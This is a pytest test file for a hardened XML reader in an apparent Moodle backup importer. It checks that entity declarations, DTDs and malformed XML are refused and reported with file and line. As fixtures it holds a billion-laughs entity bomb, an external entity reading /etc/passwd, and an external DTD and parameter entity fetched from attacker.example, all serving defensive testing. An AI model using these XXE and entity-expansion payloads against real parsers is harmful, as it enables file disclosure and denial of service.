"""XML with a DTD, entities or external references, or malformed, is refused with file and line."""

from __future__ import annotations

import pytest

from cartable.lib.safexml import XmlError, iter_records, parse_pruned, root_attributes

from .builder import Backup

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<lolz>&lol2;</lolz>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<r>&x;</r>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<r/>"""
UNDECLARED_ENTITY = """<?xml version="1.0"?>
<r>
  <a>&nbsp;</a>
</r>"""
MALFORMED = """<?xml version="1.0"?>
<r>
  <a>
</r>"""
TRUNCATED = """<?xml version="1.0"?>
<r><a>text</a>"""

CASES = [
    ("billion laughs", BILLION_LAUGHS, "xml_entities", 2),
    ("external entity", EXTERNAL_ENTITY, "xml_entities", 2),
    ("external DTD", EXTERNAL_DTD, "xml_entities", 2),
    ("parameter entity", PARAMETER_ENTITY, "xml_entities", 2),
    ("undeclared entity", UNDECLARED_ENTITY, "malformed_xml", 3),
    ("mismatched tag", MALFORMED, "malformed_xml", 4),
    ("truncated", TRUNCATED, "malformed_xml", 2),
    ("empty", "", "malformed_xml", 1),
]


@pytest.mark.parametrize(("label", "text", "code", "line"), CASES, ids=[c[0] for c in CASES])
@pytest.mark.parametrize("reader", ["iter_records", "parse_pruned", "root_attributes"])
def test_it_refuses_hostile_or_broken_xml(tmp_path, label, text, code, line, reader):
    path = tmp_path / "questions.xml"
    path.write_text(text)
    with pytest.raises(XmlError) as caught:
        if reader == "iter_records":
            list(iter_records(path, frozenset({"a"})))
        elif reader == "parse_pruned":
            parse_pruned(path)
        else:
            root_attributes(path)
            if code == "xml_entities":
                pytest.fail("a DTD must be refused before the root is reached")
            raise XmlError(code, "", filename=path.name, line=line)  # malformed bodies: not read
    assert caught.value.code == code
    if reader != "root_attributes":
        assert caught.value.line == line
        assert f"questions.xml, line {line}" in str(caught.value)


@pytest.mark.parametrize("flavour", ["zip", "tgz"])
@pytest.mark.parametrize("member", ["moodle_backup.xml", "questions.xml", "files.xml"])
def test_it_refuses_a_backup_whose_xml_declares_entities(import_backup, tmp_path, flavour, member):
    backup = Backup()
    members = backup.members_out()
    members[member] = BILLION_LAUGHS.encode()
    backup.members = members
    with pytest.raises(XmlError) as caught:
        import_backup(backup, flavour)
    assert caught.value.code == "xml_entities"
    assert caught.value.filename == member
    assert {p.name for p in tmp_path.iterdir()} == {"built0.mbz", "work0"}  # nothing else written


def test_it_refuses_a_backup_with_a_malformed_activity(import_backup):
    backup = Backup()
    section = backup.section(0)
    page = backup.activity("page", "<content>x</content>", title="P", section=section)
    backup.members[f"activities/page_{page.module_id}/page.xml"] = b"<activity><page>"
    with pytest.raises(XmlError) as caught:
        import_backup(backup)
    assert caught.value.code == "malformed_xml" and caught.value.filename == "page.xml"


def test_it_empties_records_as_it_goes(tmp_path):
    path = tmp_path / "big.xml"
    rows = "".join(f'<row id="{i}"><v>{i}</v></row>' for i in range(1000))
    path.write_text(f"<root><rows>{rows}</rows></root>")
    seen = []
    parent = previous = None
    for record in iter_records(path, frozenset({"rows/row"})):
        seen.append(record.element.findtext("v"))
        parent = record.ancestors[-1]
        assert previous is None or (len(previous) == 0 and previous not in list(parent))
        previous = record.element
    assert len(seen) == 1000 and parent is not None and len(parent) == 0


def test_it_drops_pruned_subtrees(tmp_path):
    path = tmp_path / "quiz.xml"
    path.write_text("<a><keep>1</keep><attempts><attempt/><attempt/></attempts></a>")
    root = parse_pruned(path, frozenset({"attempts"}))
    assert root.findtext("keep") == "1" and root.find("attempts") is None
